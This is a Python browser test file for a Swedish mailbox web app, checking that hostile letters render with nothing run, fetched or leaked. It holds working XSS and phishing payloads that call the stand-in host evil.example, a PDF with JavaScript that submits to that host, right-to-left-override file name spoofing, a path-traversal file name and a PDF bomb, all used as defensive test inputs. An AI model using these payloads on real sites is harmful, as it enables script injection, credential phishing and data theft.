"""Letters that mean harm, as a browser shows them: nothing runs, nothing is fetched, nothing leaves its place."""

from collections.abc import Callable

import pytest
from playwright.sync_api import Request, expect

from mailbox_operator.models import Message
from tests.browsing import SOON, WIDE, Browse
from tests.infra.pdf import harmful
from tests.infra.pdf.making import one_page
from tests.mailbox_ui import factories as make
from tests.mailbox_ui.browser import Site

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True), pytest.mark.timeout(600)]

Send = Callable[..., Message]

AT = "/post/minmyndighetspost.se"
ELSEWHERE = "http://evil.example"
HARM = {
    "script": "<script>top.document.title = 'taken'; fetch('http://evil.example/')</script>",
    "handlers": "<img src=x onerror=\"top.document.title='taken'\"><p onclick='x()' onmouseover='x()'>text</p>",
    "form": "<form action='http://evil.example/'><input name=password><button>Logga in</button></form>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "base": "<base href='http://evil.example/'><a href='/logga-in/'>Logga in</a>",
    "pictures": "<img src='http://evil.example/a.png'><picture><source srcset='//evil.example/b.png'></picture>",
    "styles": "<style>@import url(http://evil.example/a.css); body{background:url(http://evil.example/c)}</style>"
    "<p style='position:fixed;inset:0;background:url(http://evil.example/d);z-index:9999'>covers the page</p>",
    "svg": "<svg onload=\"top.document.title='taken'\"><script>x()</script><image href='http://evil.example/e'/></svg>",
    "frames": "<iframe src='http://evil.example/'></iframe><object data='http://evil.example/'></object>",
    "links": "<a href='javascript:top.document.title=1' id=bad>klicka</a><a href=\"java&#10;script:x()\">x</a>",
}


def opened(browse: Browse, letter: Message, below: str = "") -> tuple[Site, list[str]]:
    """The letter's page, and what was asked of other hosts."""
    site, asked = browse(viewport=WIDE), list[str]()

    def note(request: Request) -> None:
        if not request.url.startswith((site.root, "data:")):
            asked.append(request.url)

    site.page.on("request", note)
    site.log_in(make.ANNA)
    site.open(f"{AT}/meddelande/{letter.public_id}/{below}")
    return site, asked


@pytest.fixture
def send() -> Send:
    box = make.mailbox(make.ANNA)
    return lambda **letter: make.message(box, **letter)


@pytest.mark.parametrize("harm", HARM.values(), ids=HARM.keys())
def test_what_a_letter_tries_has_no_effect(browse: Browse, send: Send, harm: str) -> None:
    letter = send(body=f"{harm}<p id=sist>Sista raden</p>")

    site, asked = opened(browse, letter)
    last = site.page.frame_locator("iframe").get_by_text("Sista raden")
    expect(last).to_be_visible()

    assert asked == []
    assert "taken" not in site.page.title()
    frame = site.page.frame_locator("iframe").locator("body")
    assert frame.locator("script, form, input, iframe, object, svg, meta[http-equiv], base").count() == 0
    for address in frame.locator("a").evaluate_all("(links) => links.map((link) => link.href)"):
        assert address.startswith(("https:", "http:", "mailto:", "tel:")) or not address
    assert frame.locator("[style*=position], [style*=url], [onclick], [onload], [onerror]").count() == 0


def test_two_megabytes_of_html_are_shown_or_said_to_be_too_much(browse: Browse, send: Send) -> None:
    letter = send(body="<div>" + "<p>Rad</p>" * 200_000 + "</div>")

    site, _ = opened(browse, letter)

    expect(site.page.frame_locator("iframe").locator("main")).to_be_visible(timeout=SOON)
    expect(site.page.get_by_role("heading", name="Äkta och oförändrat")).to_be_visible()


def test_a_subject_and_a_file_name_that_turn_around_stay_in_their_place(browse: Browse, send: Send) -> None:
    turned = "Beslut \u202ecod.exe"
    files = (("faktura\u202efdp.exe", "application/pdf", make.pdf()),)
    letter = send(subject=turned, files=files)

    site, _ = opened(browse, letter)

    assert "\u202e" not in site.page.content()
    expect(site.page.get_by_role("link", name="fakturafdp.exe", exact=True)).to_be_visible()


SCRIPTED = one_page(
    "BT /F1 20 Tf 50 500 Td (Hej) Tj ET",
    page="/MediaBox[0 0 400 600]/AA<</O<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://evil.example/'\\))>>>>"
    "/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>",
)


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (SCRIPTED, "Hej"),
        (make.pdf(password="hemlig"), "Filen är låst med ett lösenord"),
        (b"", "Filen är skadad"),
        (b"MZ\x90\x00 ett program", "Filen är skadad"),
        (harmful.drawing_itself_twice(), "Filen kan inte visas, ladda ner den"),
    ],
    ids=["script", "encrypted", "empty", "no pdf", "bomb"],
)
def test_a_hostile_pdf_is_shown_as_pictures_or_refused_with_a_word_why(
    browse: Browse, send: Send, content: bytes, told: str
) -> None:
    letter = send(files=(("../../f.pdf", "application/pdf", content),))

    site, asked = opened(browse, letter, "bilaga/1/")

    expect(site.page.locator("main").get_by_text(told, exact=True).first).to_be_attached(timeout=SOON)
    expect(site.page.get_by_role("link", name="Ladda ner", exact=True)).to_be_visible()
    assert asked == []


def test_a_link_opens_apart_and_knows_nothing_of_the_mailbox(browse: Browse, send: Send) -> None:
    letter = send(body="<a href='http://evil.example/x'>e-tjänsten</a>")
    site, _ = opened(browse, letter)
    site.page.context.route(f"{ELSEWHERE}/**", lambda route: route.fulfill(body="<script>opener.x</script>Framme"))

    with site.page.context.expect_page() as apart:
        site.page.frame_locator("iframe").get_by_role("link").click()

    expect(apart.value.get_by_text("Framme")).to_be_visible()
    assert apart.value.evaluate("[String(window.opener), document.referrer]") == ["null", ""]
